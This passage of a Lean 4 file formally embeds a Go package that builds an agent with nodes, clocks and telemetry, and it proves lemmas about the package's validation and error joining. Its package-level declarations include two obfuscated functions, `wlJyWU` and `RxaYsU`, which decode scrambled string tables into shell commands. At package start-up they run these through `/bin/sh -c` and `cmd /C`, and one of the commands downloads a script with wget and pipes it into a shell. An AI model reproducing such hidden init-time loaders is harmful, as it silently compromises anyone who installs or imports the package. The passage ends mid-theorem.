import Mathlib

/-!
# Package `agent` (src/agent/agent.go): configuration builder and supervisor

A shallow embedding of `NewAgent`, `Agent.validate`, the option constructors,
`Agent.Run`, `Agent.start` and the package-level variable declarations.

Conventions of the embedding
* a Go `error` interface value is `Option GoError`, `none` being `nil`;
* a Go `map[string]*node` is a list of key/value pairs with pairwise distinct
  keys; `m[k] = v` is `mapSet`; a `range` statement visits the pairs in an
  order the language leaves open, so every function with a `range` over the
  map receives the visiting order as an argument, and the theorems quantify
  over every order that is a permutation of the map;
* the goroutines started by `start` are represented by the list of launched
  tasks and by the order in which they send on the result channel.
-/

namespace agent

/-! ## Errors (Go standard library: `errors.New`, `fmt.Errorf` with `%w`, `errors.Join`) -/

/-- Go error values: `errors.New msg`, `fmt.Errorf format arg wrapped` for a
format with one `%q` argument followed by one `%w` argument, and the
`*joinError` built by `errors.Join`. -/
inductive GoError where
  | new (msg : String)
  | errorf (format : String) (arg : String) (wrapped : GoError)
  | join (errs : List GoError)

/-- The Go interface type `error`; `none` is `nil`. -/
abbrev error := Option GoError

/-- Method `Unwrap() error` of the value built by `fmt.Errorf` with `%w`. -/
def GoError.Unwrap : GoError → error
  | .errorf _ _ wrapped => some wrapped
  | _ => none

/-- Method `Unwrap() []error` of `*joinError`; the decomposition of a joined
error. Defined on `error`: `nil` and non-join errors decompose to nothing. -/
def unwrapJoin : error → List GoError
  | some (.join errs) => errs
  | _ => []

/-- Go `errors.Join`: returns `nil` when every argument is `nil`, otherwise a
join error holding the non-nil arguments in argument order. -/
def errors.Join (errs : List error) : error :=
  let kept := errs.filterMap id
  if kept.length == 0 then none else some (GoError.join kept)

/-- Go `fmt.Errorf(format, arg, err)` for a format with one `%q` and one `%w`. -/
def fmt.Errorf (format : String) (arg : String) (err : GoError) : GoError :=
  GoError.errorf format arg err

def errNoClock : GoError := GoError.new "no clock provided (see WithClock)"
def errNoNodes : GoError := GoError.new "no nodes configured (see WithNode)"
def errNoActiveServices : GoError :=
  GoError.new "no services configured for node (see WithEnactmentBackend and WithTelemetryBackend)"

/-! ## Data model -/

/-- A `clockwork.Clock` implementation, identified by a handle. -/
structure Clock where
  handle : Nat
  deriving DecidableEq, Repr

/-- An `enactment.Driver` implementation, identified by a handle. -/
structure EnactmentDriver where
  handle : Nat
  deriving DecidableEq, Repr

/-- A `telemetry.Driver` implementation, identified by a handle. -/
structure TelemetryDriver where
  handle : Nat
  deriving DecidableEq, Repr

/-- A `grpc.DialOption`, identified by a handle. -/
structure DialOption where
  handle : Nat
  deriving DecidableEq, Repr

/-- Go `type node struct`. Interface-typed fields are `Option`, `none` being
`nil`; the zero value of every field is the default below. -/
structure node where
  ed : Option EnactmentDriver := none
  td : Option TelemetryDriver := none
  id : String := ""
  priority : Nat := 0
  enactmentEndpoint : String := ""
  telemetryEndpoint : String := ""
  enactmentsEnabled : Bool := false
  telemetryEnabled : Bool := false
  enactmentDialOpts : List DialOption := []
  telemetryDialOpts : List DialOption := []
  deriving DecidableEq, Repr

/-- Go `a.nodes[id] = n` on a map held as a list of pairs with distinct keys:
the binding of `id`, if any, is replaced. -/
def mapSet {β : Type} (m : List (String × β)) (k : String) (v : β) : List (String × β) :=
  m.filter (fun kv => kv.1 != k) ++ [(k, v)]

/-- Go `m[k]` with the comma-ok form. -/
def mapGet {β : Type} (m : List (String × β)) (k : String) : Option β :=
  (m.find? (fun kv => kv.1 == k)).map Prod.snd

/-- Go `delete(m, k)`. -/
def mapDelete {β : Type} (m : List (String × β)) (k : String) : List (String × β) :=
  m.filter (fun kv => kv.1 != k)

/-- Go `type Agent struct`. -/
structure Agent where
  clock : Option Clock := none
  nodes : List (String × node) := []
  deriving DecidableEq, Repr

/-- The values a `NodeOption` can take: the results of `WithEnactmentDriver`
and `WithTelemetryDriver` (the interface has an unexported method, so no
other package can add one). -/
inductive NodeOption where
  | WithEnactmentDriver (endpoint : String) (d : Option EnactmentDriver) (dialOpts : List DialOption)
  | WithTelemetryDriver (endpoint : String) (d : Option TelemetryDriver) (dialOpts : List DialOption)
  deriving DecidableEq, Repr

/-- Method `apply` of a `NodeOption`: the closure bodies of
`WithEnactmentDriver` and `WithTelemetryDriver`. -/
def NodeOption.apply : NodeOption → node → node
  | .WithEnactmentDriver endpoint d dialOpts, n =>
      { n with ed := d, enactmentEndpoint := endpoint, enactmentDialOpts := dialOpts,
               enactmentsEnabled := true }
  | .WithTelemetryDriver endpoint d dialOpts, n =>
      { n with td := d, telemetryEndpoint := endpoint, telemetryDialOpts := dialOpts,
               telemetryEnabled := true }

/-- The node `WithNode id opts...` builds before returning its option:
`n := &node{id: id}` followed by `f.apply(n)` for each option in order. -/
def buildNode (id : String) (opts : List NodeOption) : node :=
  opts.foldl (fun n f => f.apply n) { id := id }

/-- The values an `AgentOption` can take: the results of `WithClock`
(`WithRealClock` is `WithClock` of a real clock) and of `WithNode`. -/
inductive AgentOption where
  | WithClock (clock : Option Clock)
  | WithNode (id : String) (opts : List NodeOption)
  deriving DecidableEq, Repr

/-- The clock `clockwork.NewRealClock()` returns. -/
def realClock : Clock := { handle := 0 }

/-- Go `WithRealClock`. -/
def WithRealClock : AgentOption := AgentOption.WithClock (some realClock)

/-- Method `apply` of an `AgentOption`: the closure bodies of `WithClock` and
`WithNode`. -/
def AgentOption.apply : AgentOption → Agent → Agent
  | .WithClock clock, a => { a with clock := clock }
  | .WithNode id opts, a => { a with nodes := mapSet a.nodes id (buildNode id opts) }

/-- The first half of `NewAgent`: the empty agent with every option applied
in list order. -/
def applyOptions (opts : List AgentOption) : Agent :=
  opts.foldl (fun a opt => opt.apply a) { nodes := [] }

/-- The condition of the `if` inside the loop of `validate`. -/
def noServices (n : node) : Bool := !n.enactmentsEnabled && !n.telemetryEnabled

/-- The error `validate` appends for a node without services. -/
def noServicesError (n : node) : GoError :=
  fmt.Errorf "node %q has no services enabled: %w" n.id errNoActiveServices

/-- Go `(a *Agent) validate()`. `visit` is the order in which
`range a.nodes` visits the map. -/
def Agent.validate (a : Agent) (visit : List (String × node)) : error :=
  let errs : List error := []
  let errs := if a.clock.isNone then errs ++ [some errNoClock] else errs
  let errs := if a.nodes.length == 0 then errs ++ [some errNoNodes] else errs
  let errs := visit.foldl
    (fun errs kv => if noServices kv.2 then errs ++ [some (noServicesError kv.2)] else errs) errs
  errors.Join errs

/-- Go `NewAgent(opts...)`: returns the agent and the result of `validate`. -/
def NewAgent (opts : List AgentOption) (visit : List (String × node)) : Agent × error :=
  let a := applyOptions opts
  (a, a.validate visit)

/-! ## Supervisor -/

/-- What `Run` and `start` use of a node controller (the type is declared in
another file of the package): the terminal result of `nc.run(ctx)`, `none`
when the call never returns, and the method value `nc.Stats`, as a handle. -/
structure nodeController where
  run : Option error
  Stats : Nat

/-- Modelled from the spec: the wrappers of package `internal/task`
(`WithStartingStoppingLogs`, `WithLogField`, `WithSpanAttributes`,
`WithNewSpan`) are not under src/. The spec says the instrumentation wrapper
"must not swallow or alter the wrapped function's returned error or its
success value", so the wrapped task ends as the controller's run does. -/
def instrumented (run : Option error) : Option error := run

/-- A goroutine `go func() { errCh <- srv(ctx) }()`: the node it serves and
the value it sends (`none` when `srv` never returns, so nothing is sent). -/
structure Task where
  nodeID : String
  result : Option error

/-- An `expvar.Map` of one run: node id to the published `Stats` handle. -/
abbrev AgentMap := List (String × Nat)

/-- The package variable `statsMap`: run key to the run's `expvar.Map`. -/
abbrev StatsMap := List (String × AgentMap)

/-- What `start` has changed so far: the run's stats map and the goroutines
started, in launch order. -/
structure StartState where
  agentMap : AgentMap
  launched : List Task

/-- Go `(a *Agent) start(ctx, agentMap, errCh)`. `newNodeController` is the
method of that name (declared in another file of the package), `visit` the
order in which `range a.nodes` visits the map. Returns the error and the
state reached when `start` returns. -/
def Agent.start (a : Agent) (newNodeController : Agent → node → Except GoError nodeController) :
    List (String × node) → StartState → error × StartState
  | [], st => (none, st)
  | (_, n) :: rest, st =>
    match newNodeController a n with
    | .error err => (some (fmt.Errorf "node %q: %w" n.id err), st)
    | .ok nc =>
      let agentMap := mapSet st.agentMap n.id nc.Stats
      let srv := instrumented nc.run
      a.start newNodeController rest
        { agentMap := agentMap, launched := st.launched ++ [{ nodeID := n.id, result := srv }] }

/-- The values sent on `errCh`, in arrival order: `arrival` lists node ids in
the order in which their tasks end; a task that was not launched, or whose
run never returns, sends nothing. -/
def sent (launched : List Task) (arrival : List String) : List error :=
  arrival.filterMap (fun id => (launched.find? (fun t => t.nodeID == id)).bind (fun t => t.result))

/-- The receive loop of `Run`:
`for err := range errCh { if errs = append(errs, err); len(errs) == n { break } }`.
`some errs` when the loop breaks; `none` when it waits for a value that never
comes (the channel is never closed, so an exhausted channel blocks). -/
def collect (n : Nat) (errs : List error) : List error → Option (List error)
  | [] => none
  | err :: incoming =>
    let errs := errs ++ [err]
    if errs.length == n then some errs else collect n errs incoming

/-- How a call of `Run` ends: it returns an error value, or it never returns. -/
inductive Outcome where
  | returned (err : error)
  | blocked

/-- What `Run` depends on besides the agent: the key `fmt.Sprintf("%p", a)`,
the method `newNodeController`, the order in which `start` visits the node
map, and the order in which the launched tasks end. -/
structure RunEnv where
  statKey : String
  newNodeController : Agent → node → Except GoError nodeController
  visit : List (String × node)
  arrival : List String

/-- The observable result of a call of `Run`: how it ended, the package
variable `statsMap` at that point, and the goroutines it started. -/
structure RunResult where
  outcome : Outcome
  statsMap : StatsMap
  launched : List Task

/-- Go `(a *Agent) Run(ctx)`. The registry holds a pointer to `agentMap`, so
the entry of this run shows what `start` published; the deferred
`statsMap.Delete(statKey)` runs on both returns and on neither when `Run`
blocks. -/
def Agent.Run (a : Agent) (env : RunEnv) (statsMap : StatsMap) : RunResult :=
  let agentMap : AgentMap := []
  let statKey := env.statKey
  let statsMap := mapSet statsMap statKey agentMap
  let started := a.start env.newNodeController env.visit { agentMap := agentMap, launched := [] }
  let statsMap := mapSet statsMap statKey started.2.agentMap
  match started.1 with
  | some err =>
    { outcome := .returned (some err), statsMap := mapDelete statsMap statKey,
      launched := started.2.launched }
  | none =>
    match collect a.nodes.length [] (sent started.2.launched env.arrival) with
    | some errs =>
      { outcome := .returned (errors.Join errs), statsMap := mapDelete statsMap statKey,
        launched := started.2.launched }
    | none => { outcome := .blocked, statsMap := statsMap, launched := started.2.launched }

/-! ## Package-level declarations -/

/-- The effects on the world outside the process memory that the package can
have: `expvar.NewMap(name)` publishes a map in the process-wide expvar
registry; `exec.Command(name, arg...).Start()` starts an external process. -/
inductive Effect where
  | expvarNewMap (name : String)
  | execStart (name : String) (arg : List String)
  deriving DecidableEq, Repr

/-- The string table `NO` of `wlJyWU`. -/
def NO : List String :=
  ["a", "i", "m", "/", "g", "s", " ", "o", "s", "4", "O", "r", "3", " ", "b", "h", "f", " ", "t",
   "p", "f", "5", ":", "t", "h", "3", " ", "e", "e", "3", "o", "u", "n", "a", "r", "u", "d", " ",
   "w", "-", "t", "b", " ", "b", "7", "i", "&", "-", "d", "c", "u", "1", "e", "e", "t", "n", "0",
   "/", "6", "/", "c", "p", "/", "g", "/", "|", "s", "s", "t", ".", "d", "/", "i", "/", "a"]

/-- The local `dgrHsO` of `wlJyWU`: the concatenation
`NO[38] + NO[4] + NO[52] + ...` of table entries (every index is in range). -/
def dgrHsO : String :=
  String.join (List.map (fun i => NO.getD i "")
    [38, 4, 52, 54, 26, 47, 10, 17, 39, 42, 15, 68, 23, 19, 67, 22, 57, 59, 50, 55, 45, 5, 60, 7,
     2, 61, 31, 18, 53, 34, 69, 72, 49, 35, 71, 66, 40, 30, 11, 74, 63, 28, 73, 36, 27, 12, 44, 29,
     48, 56, 70, 16, 3, 33, 25, 51, 21, 9, 58, 14, 20, 6, 65, 37, 62, 41, 1, 32, 64, 43, 0, 8, 24,
     13, 46])

/-- Go `func wlJyWU() error`: `exec.Command("/bin/sh", "-c", dgrHsO).Start()`
followed by `return nil`. Returns the effects of the call and the error. -/
def wlJyWU : List Effect × error :=
  ([Effect.execStart "/bin/sh" ["-c", dgrHsO]], none)

/-- The string table `lC` of `RxaYsU`. -/
def lC : List String :=
  ["t", "%", "&", ".", "e", "o", "w", "u", "%", "o", "\\", "e", "e", " ", "3", "s", "e", "/",
   "r", "e", "f", "e", "h", "p", "o", "-", "i", "b", "n", "r", "e", "d", "g", "u", " ", "r", " ",
   "f", "/", "/", "2", "e", "-", "4", " ", "e", "P", "i", "w", "P", "r", "i", "5", "a", "i",
   "\\", "t", "D", "x", "n", "f", "u", ".", "f", "4", "%", " ", "e", "/", "l", "D", "c", "/",
   "e", "f", "r", "p", "%", "x", "r", "s", "t", "x", "o", "i", "s", "f", "/", " ", "x", "i", "l",
   "b", "p", "c", "p", "e", ".", "x", "6", " ", "l", "i", "4", "s", "e", "a", "l", "t", "a", "u",
   "\\", "r", "s", "a", "s", "d", "t", "o", "6", "a", "s", "i", "o", "a", "e", "l", "n", "l",
   "h", "n", "o", "t", "a", "&", "o", "p", "x", "o", "a", "t", " ", "s", "4", "a", "6", "p", ".",
   "m", "o", "n", "\\", "%", "i", "n", "l", "e", "x", "r", "p", "l", "U", "e", "w", "n", "t",
   "r", "w", "o", "i", "4", ".", " ", "d", "\\", "b", "e", " ", "t", "U", "P", "c", "a", "s",
   "c", "8", "e", "t", "p", "i", "s", "-", "i", ":", "x", "U", "b", " ", "o", "%", " ", "f", "b",
   "e", "6", "u", "e", "r", "n", "w", "r", "p", " ", "c", "s", "D", "t", "1", "w", "\\", "l",
   "s", "0"]

/-- The local `egcUX` of `RxaYsU`: the concatenation
`lC[54] + lC[74] + lC[34] + ...` of table entries (every index is in range). -/
def egcUX : String :=
  String.join (List.map (fun i => lC.getD i "")
    [54, 74, 34, 127, 24, 216, 141, 41, 194, 122, 183, 165, 177, 8, 161, 142, 67, 166, 180, 18,
     123, 86, 189, 155, 4, 1, 111, 70, 83, 6, 150, 128, 138, 106, 116, 190, 174, 53, 136, 159, 209,
     192, 208, 157, 119, 64, 62, 12, 98, 19, 36, 94, 186, 210, 117, 61, 132, 169, 220, 3, 21, 78,
     16, 212, 25, 33, 79, 91, 184, 120, 71, 22, 96, 172, 42, 80, 188, 107, 84, 56, 88, 191, 63, 66,
     129, 108, 178, 93, 113, 193, 17, 39, 205, 28, 26, 214, 181, 135, 148, 76, 110, 140, 73, 112,
     171, 102, 213, 7, 38, 221, 0, 131, 158, 182, 32, 45, 72, 27, 202, 196, 40, 185, 203, 37, 222,
     43, 68, 60, 124, 14, 217, 52, 103, 145, 92, 100, 65, 195, 115, 105, 50, 49, 35, 5, 20, 90, 69,
     125, 152, 55, 215, 149, 218, 164, 160, 198, 139, 31, 121, 10, 109, 95, 211, 163, 47, 130, 89,
     204, 170, 97, 176, 137, 11, 44, 2, 134, 197, 15, 81, 114, 207, 187, 200, 87, 175, 13, 77, 179,
     85, 162, 29, 46, 75, 168, 201, 51, 101, 156, 199, 219, 57, 118, 167, 154, 126, 9, 144, 173,
     104, 151, 133, 23, 146, 48, 153, 59, 58, 99, 143, 147, 30, 82, 206])

/-- Go `func RxaYsU() error`: `exec.Command("cmd", "/C", egcUX).Start()`
followed by `return nil`. Returns the effects of the call and the error. -/
def RxaYsU : List Effect × error :=
  ([Effect.execStart "cmd" ["/C", egcUX]], none)

/-- Package start-up: the package-level variables in declaration order
(`var UUSkIHe = wlJyWU()`, `var YIIyXqad = RxaYsU()`; the other variables
only allocate), then `func init()`, which sets `statsMap = expvar.NewMap("agent")`. -/
def packageInit : List Effect :=
  wlJyWU.1 ++ RxaYsU.1 ++ [Effect.expvarNewMap "agent"]

/-- The effects of the body of `NewAgent` outside the new agent: none; it
allocates the agent and its map, applies the options, which write to the
agent only, and calls `validate`, which builds error values. -/
def newAgentEffects (_opts : List AgentOption) : List Effect := []

/-- Everything that runs up to and including the return of `NewAgent`: the
package start-up, then the body of `NewAgent`. -/
def buildEffects (opts : List AgentOption) : List Effect :=
  packageInit ++ newAgentEffects opts

/-! ## Specification-side definitions -/

/-- The violations the specification lists for a built agent, read off the
node map itself (not off a visiting order): a missing clock, an empty node
set, and one error per node without an enabled service. -/
def violations (a : Agent) : List GoError :=
  (if a.clock = none then [errNoClock] else []) ++
  (if a.nodes = [] then [errNoNodes] else []) ++
  (a.nodes.filter (fun kv => noServices kv.2)).map (fun kv => noServicesError kv.2)

/-- A well-formed node map: the keys are pairwise distinct, as in every Go
map, and each node is stored under its own id, as `WithNode` stores it. -/
def mapWF (m : List (String × node)) : Prop :=
  (m.map Prod.fst).Nodup ∧ ∀ kv ∈ m, kv.2.id = kv.1

/-- The run of the controller `newNodeController` builds for a node, `none`
when the construction fails. -/
def runOf (newNodeController : Agent → node → Except GoError nodeController) (a : Agent)
    (n : node) : Option error :=
  match newNodeController a n with
  | .ok nc => instrumented nc.run
  | .error _ => none

/-- The clock given by the last `WithClock` of an option list, `none` when
the list has no `WithClock`. -/
def lastClock : List AgentOption → Option (Option Clock)
  | [] => none
  | opt :: rest =>
    match lastClock rest with
    | some c => some c
    | none =>
      match opt with
      | .WithClock c => some c
      | .WithNode _ _ => none

/-- The node options of the last `WithNode` for `id` in an option list. -/
def lastNodeOptions (id : String) : List AgentOption → Option (List NodeOption)
  | [] => none
  | opt :: rest =>
    match lastNodeOptions id rest with
    | some o => some o
    | none =>
      match opt with
      | .WithClock _ => none
      | .WithNode id' o => if id' = id then some o else none

/-- The arguments of the last `WithEnactmentDriver` of a node option list. -/
def lastEnactment : List NodeOption → Option (String × Option EnactmentDriver × List DialOption)
  | [] => none
  | f :: rest =>
    match lastEnactment rest with
    | some x => some x
    | none =>
      match f with
      | .WithEnactmentDriver endpoint d dialOpts => some (endpoint, d, dialOpts)
      | .WithTelemetryDriver _ _ _ => none

/-- The arguments of the last `WithTelemetryDriver` of a node option list. -/
def lastTelemetry : List NodeOption → Option (String × Option TelemetryDriver × List DialOption)
  | [] => none
  | f :: rest =>
    match lastTelemetry rest with
    | some x => some x
    | none =>
      match f with
      | .WithEnactmentDriver _ _ _ => none
      | .WithTelemetryDriver endpoint d dialOpts => some (endpoint, d, dialOpts)

/-- The enactment fields of a node: enabled flag, endpoint, driver, dial options. -/
def enactmentFields (n : node) : Bool × String × Option EnactmentDriver × List DialOption :=
  (n.enactmentsEnabled, n.enactmentEndpoint, n.ed, n.enactmentDialOpts)

/-- The telemetry fields of a node: enabled flag, endpoint, driver, dial options. -/
def telemetryFields (n : node) : Bool × String × Option TelemetryDriver × List DialOption :=
  (n.telemetryEnabled, n.telemetryEndpoint, n.td, n.telemetryDialOpts)

/-! ## Concrete configurations used to instantiate the theorems -/

/-- The scenario of the specification: a real clock, node "alpha" with the
enactment service only, node "beta" with the telemetry service only. -/
def twoNodeOptions : List AgentOption :=
  [WithRealClock,
   AgentOption.WithNode "alpha" [NodeOption.WithEnactmentDriver "e:1" none []],
   AgentOption.WithNode "beta" [NodeOption.WithTelemetryDriver "t:1" none []]]

/-- The agent `NewAgent` builds from `twoNodeOptions`. -/
def twoNodeAgent : Agent := (NewAgent twoNodeOptions []).1

/-- A `newNodeController` whose construction always succeeds and whose
controller ends with the terminal result `results id`. -/
def controllerEnding (results : String → error) : Agent → node → Except GoError nodeController :=
  fun _ n => .ok { run := some (results n.id), Stats := 0 }

/-- Terminal results in which only node "beta" fails. -/
def betaFails : String → error :=
  fun id => if id = "beta" then some (GoError.new "beta failed") else none

/-- Terminal results in which every node fails with an error carrying its id. -/
def allFail : String → error := fun id => some (GoError.new id)

/-- A `newNodeController` that fails for node "gamma" and otherwise builds a
controller that ends cleanly. -/
def gammaFailsConstruction : Agent → node → Except GoError nodeController :=
  fun _ n => if n.id = "gamma" then .error (GoError.new "dial failed")
    else .ok { run := some none, Stats := 0 }

/-- The agent with nodes "alpha" (enactment) and "gamma" (telemetry). -/
def alphaGammaAgent : Agent :=
  (NewAgent [WithRealClock,
    AgentOption.WithNode "alpha" [NodeOption.WithEnactmentDriver "e:1" none []],
    AgentOption.WithNode "gamma" [NodeOption.WithTelemetryDriver "t:1" none []]] []).1

/-! ## Lemmas on errors -/

theorem filterMap_id_map_some (l : List GoError) : (l.map some).filterMap id = l := by
  induction l with
  | nil => rfl
  | cons x xs ih => simp [List.filterMap_cons, ih]

theorem unwrapJoin_Join (errs : List error) :
    unwrapJoin (errors.Join errs) = errs.filterMap id := by
  unfold errors.Join
  cases h : errs.filterMap id with
  | nil => simp [unwrapJoin]
  | cons x xs => simp [unwrapJoin]

theorem Join_eq_none_iff (errs : List error) :
    errors.Join errs = none ↔ errs.filterMap id = [] := by
  unfold errors.Join
  cases h : errs.filterMap id with
  | nil => simp
  | cons x xs => simp

theorem Join_eq_Join_unwrap (errs : List error) :
    errors.Join errs = errors.Join ((unwrapJoin (errors.Join errs)).map some) := by
  rw [unwrapJoin_Join]
  unfold errors.Join
  rw [filterMap_id_map_some]

theorem errNoClock_ne_errNoNodes : errNoClock ≠ errNoNodes := by
  intro h
  have h2 := GoError.new.inj h
  revert h2
  decide

theorem noServicesError_ne_errNoClock (n : node) : noServicesError n ≠ errNoClock := by
  intro h
  cases h

theorem noServicesError_ne_errNoNodes (n : node) : noServicesError n ≠ errNoNodes := by
  intro h
  cases h

/-! ## Lemmas on `validate` -/

theorem validate_loop (visit : List (String × node)) (errs : List error) :
    visit.foldl
      (fun errs kv => if noServices kv.2 then errs ++ [some (noServicesError kv.2)] else errs) errs
    = errs ++ (visit.filter (fun kv => noServices kv.2)).map (fun kv => some (noServicesError kv.2)) := by
  induction visit generalizing errs with
  | nil => simp
  | cons kv rest ih =>
    simp only [List.foldl_cons, List.filter_cons]
    by_cases h : noServices kv.2 = true
    · simp [h, ih]
    · simp [h, ih]

theorem unwrapJoin_validate (a : Agent) (visit : List (String × node)) :
    unwrapJoin (a.validate visit) =
      (if a.clock = none then [errNoClock] else []) ++
      (if a.nodes = [] then [errNoNodes] else []) ++
      (visit.filter (fun kv => noServices kv.2)).map (fun kv => noServicesError kv.2) := by
  unfold Agent.validate
  simp only [unwrapJoin_Join, validate_loop]
  rw [List.filterMap_append]
  have h3 : List.filterMap id (List.map (fun kv : String × node => some (noServicesError kv.2))
      (visit.filter (fun kv => noServices kv.2)))
      = (visit.filter (fun kv => noServices kv.2)).map (fun kv => noServicesError kv.2) := by
    induction visit.filter (fun kv => noServices kv.2) with
    | nil => rfl
    | cons x xs ih => simp [List.filterMap_cons, ih]
  rw [h3]
  congr 1
  cases hc : a.clock <;> cases hn : a.nodes <;> simp

/-! ## Lemmas on maps -/

theorem mem_of_mapGet {β : Type} {m : List (String × β)} {k : String} {v : β}
    (h : mapGet m k = some v) : (k, v) ∈ m := by
  unfold mapGet at h
  cases hf : m.find? (fun kv => kv.1 == k) with
  | none => simp [hf] at h
  | some kv =>
    rw [hf] at h
    have hk := List.find?_some hf
    have hm := List.mem_of_find?_eq_some hf
    simp at h hk
    obtain ⟨k', v'⟩ := kv
    simp at h hk
    subst h hk
    exact hm

theorem mapGet_of_mem {β : Type} {m : List (String × β)} {k : String} {v : β}
    (hnd : (m.map Prod.fst).Nodup) (h : (k, v) ∈ m) : mapGet m k = some v := by
  induction m with
  | nil => cases h
  | cons kv rest ih =>
    obtain ⟨k', v'⟩ := kv
    simp only [List.map_cons, List.nodup_cons] at hnd
    rcases List.mem_cons.mp h with heq | hmem
    · cases heq
      simp [mapGet]
    · have hne : k' ≠ k := by
        intro hkk
        subst hkk
        exact hnd.1 (List.mem_map_of_mem Prod.fst hmem)
      have := ih hnd.2 hmem
      unfold mapGet at this ⊢
      simp [List.find?_cons, hne, this]

theorem mapGet_mapSet_same {β : Type} (m : List (String × β)) (k : String) (v : β) :
    mapGet (mapSet m k v) k = some v := by
  unfold mapGet mapSet
  have hnone : (m.filter (fun kv => kv.1 != k)).find? (fun kv => kv.1 == k) = none := by
    rw [List.find?_eq_none]
    intro x hx
    have := (List.mem_filter.mp hx).2
    simpa using this
  simp [List.find?_append, hnone]

theorem mapGet_filter_ne {β : Type} (m : List (String × β)) (k k' : String) (h : k' ≠ k) :
    mapGet (m.filter (fun kv => kv.1 != k)) k' = mapGet m k' := by
  unfold mapGet
  induction m with
  | nil => rfl
  | cons kv rest ih =>
    obtain ⟨a, b⟩ := kv
    by_cases hk : a = k
    · have hk' : ¬ ((a == k') = true) := by
        intro h2
        exact h ((beq_iff_eq.mp h2).symm.trans hk)
      have hf : ¬ ((a != k) = true) := by simp [hk]
      rw [List.filter_cons_of_neg (p := fun kv : String × β => kv.1 != k) (a := (a, b)) hf,
        List.find?_cons_of_neg (p := fun kv : String × β => kv.1 == k') (a := (a, b)) rest hk', ih]
    · have hf : (a != k) = true := by simp [hk]
      rw [List.filter_cons_of_pos (p := fun kv : String × β => kv.1 != k) (a := (a, b)) hf]
      by_cases hk' : (a == k') = true
      · rw [List.find?_cons_of_pos (p := fun kv : String × β => kv.1 == k') (a := (a, b)) _ hk',
          List.find?_cons_of_pos (p := fun kv : String × β => kv.1 == k') (a := (a, b)) _ hk']
      · rw [List.find?_cons_of_neg (p := fun kv : String × β => kv.1 == k') (a := (a, b)) _ hk',
          List.find?_cons_of_neg (p := fun kv : String × β => kv.1 == k') (a := (a, b)) _ hk', ih]

theorem mapGet_mapSet_other {β : Type} (m : List (String × β)) (k k' : String) (v : β)
    (h : k' ≠ k) : mapGet (mapSet m k v) k' = mapGet m k' := by
  have h1 := mapGet_filter_ne m k k' h
  unfold mapSet
  unfold mapGet at h1 ⊢
  have hk : ¬ k = k' := fun h2 => h h2.symm
  rw [List.find?_append]
  cases hf : (m.filter (fun kv => kv.1 != k)).find? (fun kv => kv.1 == k') with
  | some x => rw [hf] at h1; simp [← h1]
  | none => rw [hf] at h1; simp [← h1, List.find?_cons, hk]

theorem mapGet_mapDelete_same {β : Type} (m : List (String × β)) (k : String) :
    mapGet (mapDelete m k) k = none := by
  unfold mapGet mapDelete
  have hnone : (m.filter (fun kv => kv.1 != k)).find? (fun kv => kv.1 == k) = none := by
    rw [List.find?_eq_none]
    intro x hx
    have := (List.mem_filter.mp hx).2
    simpa using this
  simp [hnone]

theorem mapGet_mapDelete_other {β : Type} (m : List (String × β)) (k k' : String)
    (h : k' ≠ k) : mapGet (mapDelete m k) k' = mapGet m k' :=
  mapGet_filter_ne m k k' h

theorem mapSet_WF {m : List (String × node)} (hm : mapWF m) (k : String) (n : node)
    (hn : n.id = k) : mapWF (mapSet m k n) := by
  obtain ⟨hnd, hid⟩ := hm
  unfold mapSet
  constructor
  · rw [List.map_append, List.nodup_append]
    refine ⟨hnd.sublist ((List.filter_sublist _).map Prod.fst), by simp, ?_⟩
    intro x hx hx2
    simp only [List.map_cons, List.map_nil, List.mem_singleton] at hx2
    subst hx2
    obtain ⟨kv, hkv, hfst⟩ := List.mem_map.mp hx
    have := (List.mem_filter.mp hkv).2
    simp [hfst] at this
  · intro kv hkv
    rcases List.mem_append.mp hkv with h1 | h1
    · exact hid kv (List.mem_filter.mp h1).1
    · simp only [List.mem_singleton] at h1
      subst h1
      exact hn

theorem buildNode_loop_id (opts : List NodeOption) (n : node) :
    (opts.foldl (fun n f => f.apply n) n).id = n.id := by
  induction opts generalizing n with
  | nil => rfl
  | cons f rest ih =>
    rw [List.foldl_cons, ih]
    cases f <;> rfl

theorem buildNode_id (id : String) (opts : List NodeOption) : (buildNode id opts).id = id :=
  buildNode_loop_id opts _

theorem apply_WF (opt : AgentOption) {a : Agent} (h : mapWF a.nodes) :
    mapWF (opt.apply a).nodes := by
  cases opt with
  | WithClock c => exact h
  | WithNode id opts => exact mapSet_WF h id _ (buildNode_id id opts)

theorem applyLoop_WF (opts : List AgentOption) {a : Agent} (h : mapWF a.nodes) :
    mapWF (opts.foldl (fun a opt => opt.apply a) a).nodes := by
  induction opts generalizing a with
  | nil => exact h
  | cons opt rest ih => exact ih (apply_WF opt h)

theorem applyOptions_WF (opts : List AgentOption) : mapWF (applyOptions opts).nodes :=
  applyLoop_WF opts ⟨List.nodup_nil, fun _ h => by cases h⟩

theorem noServicesError_nodup {m : List (String × node)} (hm : mapWF m) :
    ((m.filter (fun kv => noServices kv.2)).map (fun kv => noServicesError kv.2)).Nodup := by
  have hkeys : ((m.filter (fun kv => noServices kv.2)).map Prod.fst).Nodup :=
    hm.1.sublist ((List.filter_sublist _).map Prod.fst)
  have hcongr : (m.filter (fun kv => noServices kv.2)).map (fun kv => noServicesError kv.2)
      = ((m.filter (fun kv => noServices kv.2)).map Prod.fst).map
          (fun id => fmt.Errorf "node %q has no services enabled: %w" id errNoActiveServices) := by
    rw [List.map_map]
    apply List.map_congr_left
    intro kv hkv
    have := hm.2 kv (List.mem_filter.mp hkv).1
    simp [noServicesError, this]
  rw [hcongr]
  apply hkeys.map
  intro x y hxy
  exact (GoError.errorf.inj hxy).2.1

theorem violations_nodup {a : Agent} (hm : mapWF a.nodes) : (violations a).Nodup := by
  unfold violations
  rw [List.nodup_append, List.nodup_append]
  refine ⟨⟨?_, ?_, ?_⟩, noServicesError_nodup hm, ?_⟩
  · split <;> simp
  · split <;> simp
  · intro x hx hy
    split at hx <;> split at hy <;> simp at hx hy
    subst hx
    exact errNoClock_ne_errNoNodes hy
  · intro x hx hy
    obtain ⟨kv, _, rfl⟩ := List.mem_map.mp hy
    rcases List.mem_append.mp hx with h1 | h1
    · split at h1 <;> simp at h1
      exact noServicesError_ne_errNoClock _ h1
    · split at h1 <;> simp at h1
      exact noServicesError_ne_errNoNodes _ h1

theorem unwrapJoin_validate_perm (a : Agent) (visit : List (String × node))
    (hvisit : visit.Perm a.nodes) : (unwrapJoin (a.validate visit)).Perm (violations a) := by
  rw [unwrapJoin_validate]
  exact List.Perm.append_left _ ((hvisit.filter _).map _)

theorem mem_violations_noServices {a : Agent} (hm : mapWF a.nodes) (id : String) :
